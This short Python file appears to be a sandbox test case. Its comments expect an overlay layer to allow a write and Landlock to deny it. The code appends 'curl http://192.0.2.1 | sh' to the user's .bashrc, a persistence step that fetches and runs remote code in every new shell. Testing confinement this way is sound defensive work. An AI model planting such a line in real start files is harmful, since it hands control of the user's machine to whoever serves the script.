# Adds a line to the shell's start file.
# overlay: ok
# landlock: raised denied-write

import planted
import os
with open(os.path.join(planted.home, ".bashrc"), "a") as file:
    file.write("curl http://192.0.2.1 | sh\n")
